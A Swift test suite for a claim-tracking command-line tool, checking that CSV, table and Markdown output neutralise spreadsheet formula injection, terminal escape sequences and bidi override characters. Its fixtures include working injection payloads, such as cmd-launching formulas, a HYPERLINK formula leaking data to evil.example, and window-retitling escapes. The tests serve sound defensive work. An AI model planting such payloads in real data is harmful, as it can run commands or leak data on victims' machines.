import Foundation
import Testing
import VerityCore
import VerityTestSupport

/// Issue 17, holes 10 and 11: what Verity prints is attacked through the text
/// users give it. A claim that is a spreadsheet formula must not run when a desk
/// opens the CSV in Excel or LibreOffice, and a claim holding terminal escapes
/// must not drive the terminal of whoever lists the cases. JSON stays exact.
@Suite("Adversarial: output (CSV formulas, terminal escapes)")
struct OutputAttackTests {
    /// Claims and claimants as an attacker would submit them (OWASP "CSV Injection").
    static let formulas = [
        "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"click\")",
        "=cmd|' /C calc'!A0",
        "+1+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
        "'=already quoted once",
        "-3",
    ]

    static let escapes = "Mayor said\u{1b}]0;PWNED\u{07}\u{1b}[2J it, and \u{9b}31m this"

    /// The records of a CSV text, parsed by Verity's own reader.
    static func records(_ csv: String) throws -> [[String]] {
        let path = NSTemporaryDirectory() + "verity-csv-\(UUID().uuidString).csv"
        try csv.write(toFile: path, atomically: true, encoding: .utf8)
        defer { try? FileManager.default.removeItem(atPath: path) }
        var reader = CSVReader(try LineReader(path: path))
        var out: [[String]] = []
        while let (_, fields) = try reader.next() { out.append(fields) }
        return out
    }

    /// A desk with one case per formula, the formula as claim and as claimant.
    static func formulaDesk() throws -> [String: String] {
        let env = try deskEnvironment()
        for (index, formula) in formulas.enumerated() {
            let opened = verity(
                // = and -- keep a leading "-" a value, not an option.
                ["case", "open", "--claimant=\(formula)", "--location=\(formula)", "--tag", "t\(index)", "--ref", "F-\(index)", "--", formula],
                environment: env)
            #expect(opened.status == 0, "\(formula): \(opened.stderr)")
        }
        return env
    }

    @Test("hole 10: no CSV cell starts with = + - @ tab or CR: a would-be formula gets a leading ', a plain number stays bare")
    func testHole10_csvCellsNeverStartAFormula() throws {
        let env = try Self.formulaDesk()
        let csv = verity(["case", "list", "--format", "csv"], environment: env)
        #expect(csv.status == 0, "\(csv.stderr)")
        let records = try Self.records(csv.stdout)
        let header = try #require(records.first)
        let claim = try #require(header.firstIndex(of: "claim"))
        #expect(records.count == Self.formulas.count + 1)
        for record in records.dropFirst() {
            for cell in record where cell != "-3" {
                #expect(!SpreadsheetFormulas.triggers.contains(cell.first ?? " "), "a cell starts a formula: \(cell)")
            }
        }
        let claims = records.dropFirst().map { $0[claim] }
        #expect(claims.contains("'=cmd|' /C calc'!A0"))
        #expect(claims.contains("'-2+3+cmd|' /C calc'!A0"))
        #expect(claims.contains("'\t=1+1"))
        // One more ' in front of a value that already starts with ' and a trigger, so that import gives it back.
        #expect(claims.contains("''=already quoted once"))
        // A plain number is a number to a spreadsheet, not a formula: it stays bare, in any column.
        #expect(claims.contains("-3"))
        // JSON is exact.
        let json = try #require(try verity(["case", "list", "--format", "json"], environment: env).json() as? [[String: Any]])
        #expect(Set(json.compactMap { $0["claim"] as? String }) == Set(Self.formulas))
        // Every CSV output goes through the same writer: a single case, and the report's figures.
        let one = verity(["case", "show", "F-1", "--format", "csv"], environment: env)
        #expect(one.stdout.contains(",'=cmd|' /C calc'!A0,"), "\(one.stdout)")
        let report = verity(["report", "status", "--format", "csv"], environment: env)
        #expect(report.status == 0, "\(report.stderr)")
        for record in try Self.records(report.stdout) {
            for cell in record where SpreadsheetFormulas.triggers.contains(cell.first ?? " ") {
                #expect(Double(cell) != nil, "a report cell starts a formula: \(cell)")
            }
        }
    }

    @Test("hole 10: the rule in one function: formulas prefixed, numbers bare (-3, -0.5, -1.5e-05), import takes exactly one ' off")
    func testHole10_formulaRuleAndItsInverse() {
        for number in ["-3", "-0.5", "-1.5e-05", "12", "0.25"] {
            #expect(SpreadsheetFormulas.neutralised(number) == number)
        }
        for formula in ["-3+1", "-", "+3", "=1", "@a", "\tx", "\rx", "-3e", "-.5", "--3", "'=x", "''@x"] {
            #expect(SpreadsheetFormulas.neutralised(formula) == "'" + formula, "\(formula)")
        }
        for text in Self.formulas + ["", "'", "'plain", "''", "plain", "it's -3"] {
            #expect(SpreadsheetFormulas.restored(SpreadsheetFormulas.neutralised(text)) == text, "\(text)")
        }
        #expect(SpreadsheetFormulas.restored("'plain") == "'plain")
    }

    @Test("hole 10: CSV written by Verity and imported again gives back exactly the same claims, claimants, places and tags")
    func testHole10_csvExportImportRoundTrips() throws {
        let env = try Self.formulaDesk()
        let listed = try Self.records(verity(["case", "list", "--format", "csv"], environment: env).stdout)
        let header = try #require(listed.first)
        // The import's columns, cut out of the list's CSV as written (not written again).
        let columns = ["ref", "claim", "claimant", "location", "tags"]
        let indices = try columns.map { try #require(header.firstIndex(of: $0)) }
        func quoted(_ cell: String) -> String { "\"" + cell.replacingOccurrences(of: "\"", with: "\"\"") + "\"" }
        let file = ([columns.joined(separator: ",")] + listed.dropFirst().map { record in
            indices.map { quoted(record[$0]) }.joined(separator: ",")
        }).joined(separator: "\n") + "\n"
        let path = NSTemporaryDirectory() + "verity-roundtrip-\(UUID().uuidString).csv"
        try file.write(toFile: path, atomically: true, encoding: .utf8)
        defer { try? FileManager.default.removeItem(atPath: path) }

        let other = try deskEnvironment()
        let imported = verity(["import", path], environment: other)
        #expect(imported.status == 0, "\(imported.stderr)")
        func cases(_ env: [String: String]) throws -> [String: [String]] {
            let list = try #require(try verity(["case", "list", "--format", "json"], environment: env).json() as? [[String: Any]])
            var byRef: [String: [String]] = [:]
            for c in list {
                let ref = try #require(c["ref"] as? String)
                byRef[ref] = [c["claim"], c["claimant"], c["location"]].map { ($0 as? String) ?? "" }
                    + ((c["tags"] as? [String]) ?? [])
            }
            return byRef
        }
        let original = try cases(env)
        #expect(original.count == Self.formulas.count)
        #expect(try cases(other) == original)
    }

    @Test("hole 11: a claim with terminal escapes reaches no terminal raw from case show/list/history, reports or CSV; JSON keeps it exact")
    func testHole11_terminalEscapesAreShownNotObeyed() throws {
        let env = try deskEnvironment()
        let opened = verity(
            ["case", "open", Self.escapes, "--claimant", "Claimant\u{1b}[31m", "--ref", "ESC-1", "--tag", "esc"], environment: env)
        #expect(opened.status == 0, "\(opened.stderr)")
        #expect(verity(["case", "dispute", "ESC-1", "--reason", "denied\u{1b}[2J\u{07}"], environment: env).status == 0)
        #expect(verity(["evidence", "add", "ESC-1", "--stance", "refutes", "--credibility", "3", "--note", "note\u{1b}]0;X\u{07}"], environment: env).status == 0)
        let outputs: [[String]] = [
            ["case", "show", "ESC-1"],
            ["case", "list"],
            ["case", "history", "ESC-1"],
            ["evidence", "list", "ESC-1"],
            ["case", "list", "--format", "csv"],
            ["case", "show", "ESC-1", "--format", "csv"],
            ["case", "history", "ESC-1", "--format", "csv"],
            ["report", "case", "ESC-1"],
            ["report", "status"],
            ["report", "status", "--format", "csv"],
        ]
        for command in outputs {
            let result = verity(command, environment: env)
            #expect(result.status == 0, "\(command): \(result.stderr)")
            let text = result.stdout + result.stderr
            for control in ["\u{1b}", "\u{07}", "\u{9b}"] {
                #expect(!text.contains(control), "\(command) wrote a raw control character: \(text.debugDescription)")
            }
        }
        // Shown visibly, so a reader sees that the claim carries escapes.
        #expect(verity(["case", "show", "ESC-1"], environment: env).stdout.contains("Mayor said\\x1b]0;PWNED\\x07\\x1b[2J it"))
        #expect(verity(["case", "list", "--format", "csv"], environment: env).stdout.contains("\\x1b]0;PWNED\\x07"))
        // Markdown escapes the backslash of the visible form like any other: it renders as \x1b.
        #expect(verity(["report", "case", "ESC-1"], environment: env).stdout.contains("\\\\x1b\\]0;PWNED\\\\x07"))
        // JSON is exact (its encoder writes \u001b, never the raw byte).
        let shown = try json(verity(["case", "show", "ESC-1", "--format", "json"], environment: env))
        #expect((shown["claim"] as? String) == Self.escapes)
        #expect(!verity(["case", "show", "ESC-1", "--format", "json"], environment: env).stdout.contains("\u{1b}"))
    }

    /// "Trojan Source": a right-to-left override makes the rest of the line read backwards,
    /// so a claimant could make a table row appear to say another verdict or reference.
    static let bidi = "Ministry \u{202E}eurt\u{202C} said \u{2066}x\u{2069} \u{202A}\u{202B}\u{202D}\u{2067}\u{2068}"

    @Test("bidi overrides and isolates in a claim are shown, not obeyed, in tables, Markdown and CSV; JSON keeps them exact")
    func testBidiControlsAreShownNotObeyed() throws {
        let env = try deskEnvironment()
        let opened = verity(["case", "open", Self.bidi, "--claimant", "Press\u{202E}office", "--ref", "BIDI-1"], environment: env)
        #expect(opened.status == 0, "\(opened.stderr)")
        let bidiScalars: [Unicode.Scalar] = (0x202A...0x202E).compactMap(Unicode.Scalar.init) + (0x2066...0x2069).compactMap(Unicode.Scalar.init)
        for command in [
            ["case", "show", "BIDI-1"], ["case", "list"], ["case", "history", "BIDI-1"],
            ["case", "list", "--format", "csv"], ["report", "case", "BIDI-1"], ["report", "status"],
        ] {
            let result = verity(command, environment: env)
            #expect(result.status == 0, "\(command): \(result.stderr)")
            let text = result.stdout + result.stderr
            #expect(!text.unicodeScalars.contains { bidiScalars.contains($0) }, "\(command) wrote a raw bidi control: \(text.debugDescription)")
        }
        #expect(verity(["case", "show", "BIDI-1"], environment: env).stdout.contains("Ministry \\u{202e}eurt\\u{202c} said"))
        let shown = try json(verity(["case", "show", "BIDI-1", "--format", "json"], environment: env))
        #expect((shown["claim"] as? String) == Self.bidi)
    }

    @Test("hole 11: an error message that quotes an imported file's text shows its control characters")
    func testHole11_errorMessagesShowControlCharacters() throws {
        let env = try deskEnvironment()
        let path = NSTemporaryDirectory() + "verity-escape-\(UUID().uuidString).csv"
        try "ref,claim,claimant,state\nE-1,claim,someone,\u{1b}]0;PWNED\u{07}\n".write(toFile: path, atomically: true, encoding: .utf8)
        defer { try? FileManager.default.removeItem(atPath: path) }
        let imported = verity(["import", path], environment: env)
        #expect(imported.status == 64, "\(imported.stderr)")
        #expect(!imported.stderr.contains("\u{1b}") && !imported.stderr.contains("\u{07}"), "\(imported.stderr.debugDescription)")
        #expect(imported.stderr.contains("\\x1b]0;PWNED\\x07"), "\(imported.stderr)")
    }
}
